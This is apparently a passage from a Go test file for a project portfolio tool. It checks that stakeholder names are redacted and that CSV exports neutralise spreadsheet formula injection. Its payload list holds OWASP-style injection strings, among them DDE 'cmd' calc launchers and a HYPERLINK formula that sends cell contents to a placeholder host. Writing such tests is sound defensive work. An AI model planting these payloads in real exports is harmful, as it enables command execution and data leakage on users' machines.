		if !a.Redacted || !strings.Contains(a.Position, redacttest.Kept) {
			t.Errorf("roles[%d] = %+v: want Redacted, and the position's other words kept", i, a)
		}
	}
	if !strings.Contains(red[0].Description, redacttest.Kept) {
		t.Errorf("the description lost its other words: %q", red[0].Description)
	}
}

// TestPortfolioOverviewRedactRemovesEveryForm does the same through
// Portfolio.Overview with Redact: the names come from the project's
// stakeholder register (stakeholders, body members, role holders) and are
// removed from the row's text and the roles' positions in every form.
func TestPortfolioOverviewRedactRemovesEveryForm(t *testing.T) {
	names := redacttest.Names
	text := redacttest.Text(names)
	p := mustProject(ProjectConfig{ID: "P-1", Name: text, Agency: text, StateAffectingMunicipalities: true})
	p.Description = text
	inv := benefit.Kroner(20_000_000)
	p.Investment = &inv
	p.Stakeholders = stakeholder.Register{
		Stakeholders: []stakeholder.Stakeholder{{ID: "S1", Group: "Rådmenn", Name: names[0]}, {ID: "S2", Group: "Ledere", Name: "ÅSE  ØDEGÅRD"}},
		Bodies: []stakeholder.Body{{ID: "SG", Name: "Styringsgruppe", Members: []stakeholder.Member{
			{ID: "m1", Person: names[2]}, {ID: "m2", Person: names[3]},
		}}},
		Roles: stakeholder.Roles{
			{Role: stakeholder.ProjectOwner, Person: names[4], Position: text},
			{Role: stakeholder.ProjectManager, Person: names[5], Position: text},
		},
	}
	ov := Portfolio{p}.Overview(OverviewOptions{Redact: true})
	if len(ov) != 1 || len(ov[0].Roles) != 2 {
		t.Fatalf("overview = %+v; want one row with two roles", ov)
	}
	checkNoNames(t, ov, names)
}

// plainNumber is a cell a spreadsheet reads as a number and nothing else:
// an optional minus, digits, and decimals after a comma or a point.
var plainNumber = regexp.MustCompile(`^-?[0-9]+([.,][0-9]+)?$`)

// formulaStart reports whether a spreadsheet may take cell for a formula:
// it begins with one of the characters OWASP lists (=, +, -, @, tab,
// carriage return) or a full-width form of the first four.
func formulaStart(cell string) bool {
	r, _ := utf8.DecodeRuneInString(cell)
	return strings.ContainsRune("=+-@\t\r\uFF1D\uFF0B\uFF0D\uFF20", r)
}

// formulaPayloads are cells an attacker might put in a project's text or a
// role holder's name, from OWASP's CSV injection page and its variants.
var formulaPayloads = []string{
	"=1+1", "+1+1", "-1+1", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "=\"a\";\"b\"",
	`=HYPERLINK("https://example.invalid/?"&A1,"Klikk")`, `-2+3+cmd|' /C calc'!A0`, `@cmd|'/c calc'!A0`,
	"\uFF1D1+1", "\uFF0B1", "\uFF0D1", "\uFF20SUM(A1)", "-", "+", "=", "-5e3", "+47 75 00 00 00", "-0x10", "--1",
}

// TestOverviewCSVNeutralisesFormulas writes an overview whose every text
// cell begins with a formula character and reads it back as a spreadsheet
// would split it (encoding/csv, after unquoting): no cell may begin with a
// formula character unless it is a plain number, every neutralised cell
// is the text with an apostrophe before it, and the negative investment
// and a note that is a plain negative number stay numbers.
func TestOverviewCSVNeutralisesFormulas(t *testing.T) {
	neg := -benefit.Kroner(5) - 7
	var ov Overview
	for _, p := range formulaPayloads {
		ov = append(ov, Row{
			Agency: p, Project: p, Description: p, Note: p,
			Phase: phase.Concept, Investment: &neg,
			Roles: stakeholder.Roles{{Role: stakeholder.ProjectOwner, Person: p}, {Role: stakeholder.ProjectManager, Person: p + "x"}},
		})
	}
	ov = append(ov, Row{Agency: "Etat", Project: "Tall", Note: "-12", Investment: &neg})
	for _, comma := range []rune{0, ';', '\t'} {
		b, err := ov.CSV(CSVOptions{Comma: comma})
		if err != nil {
			t.Fatal(err)
		}
		cr := csv.NewReader(bytes.NewReader(b))
		if comma != 0 {
			cr.Comma = comma
		}
		recs, err := cr.ReadAll()
		if err != nil {
			t.Fatalf("comma %q: %v", comma, err)
		}
		if len(recs) != len(ov)+1 {
			t.Fatalf("comma %q: %d records, want %d", comma, len(recs), len(ov)+1)
		}
		for i, rec := range recs {
			for j, cell := range rec {
				if formulaStart(cell) && !plainNumber.MatchString(cell) {
					t.Errorf("comma %q: record %d, cell %d (%s) begins a formula: %q", comma, i, j, csvHeadings[j].EN, cell)
				}
			}
		}
		for i, p := range formulaPayloads {
			rec := recs[i+1]
			// Role holders are written trimmed.
			holder := strings.TrimSpace(p)
			if formulaStart(holder) {
				holder = "'" + holder
			}
			for j, want := range map[int]string{0: "'" + p, 1: "'" + p, 2: "'" + p, 13: "'" + p, 11: holder, 12: holder + "x"} {
				if rec[j] != want {
					t.Errorf("comma %q: %s = %q, want %q", comma, csvHeadings[j].EN, rec[j], want)
				}
			}
			if rec[10] != "-5,07" {
				t.Errorf("comma %q: investment %q, want -5,07", comma, rec[10])
			}
		}
		if last := recs[len(recs)-1]; last[13] != "-12" {
			t.Errorf("comma %q: note %q, want the plain number -12", comma, last[13])
		}
	}
}

// FuzzCSVCell checks that whatever a text cell holds, it reads back from
// the CSV unchanged or with one apostrophe before it, and never as a
// formula.
func FuzzCSVCell(f *testing.F) {
	for _, p := range formulaPayloads {
		f.Add(p)
	}
	f.Add("Helt vanlig tekst, med \"sitat\"\n og linjeskift")
	f.Fuzz(func(t *testing.T, s string) {
		if !utf8.ValidString(s) {
			t.Skip("encoding/csv is for UTF-8")
		}
		ov := Overview{{Description: s}}
		b, err := ov.CSV(CSVOptions{Comma: ';'})
		if err != nil {
			t.Fatal(err)
		}
		cr := csv.NewReader(bytes.NewReader(b))
		cr.Comma = ';'
		recs, err := cr.ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		got := recs[1][2]
		// encoding/csv writes \r\n inside a quoted field as \n when read.
		want := strings.ReplaceAll(s, "\r\n", "\n")
		if got != want && got != "'"+want {
			t.Errorf("cell %q reads back as %q", s, got)
		}
		if formulaStart(got) && !plainNumber.MatchString(got) {
			t.Errorf("cell %q reads back as a formula: %q", s, got)
		}
	})
}

func TestSpreadsheetCell(t *testing.T) {
	for in, want := range map[string]string{
		"": "", "ja": "ja", "'=1": "'=1", " =1": " =1", "a=1": "a=1", "\u22121+1": "\u22121+1",
		"-5": "-5", "-5,07": "-5,07", "-5.07": "-5.07", "-12500000": "-12500000",
		"-5,": "'-5,", "-,5": "'-,5", "-5,0,7": "'-5,0,7", "-5 kr": "'-5 kr", "-": "'-", "-e": "'-e",
		"+5": "'+5", "=5": "'=5", "@5": "'@5", "\t5": "'\t5", "\r5": "'\r5", "\uFF1D5": "'\uFF1D5",
	} {
		if got := spreadsheetCell(in); got != want {
			t.Errorf("spreadsheetCell(%q) = %q, want %q", in, got, want)
		}
	}
}
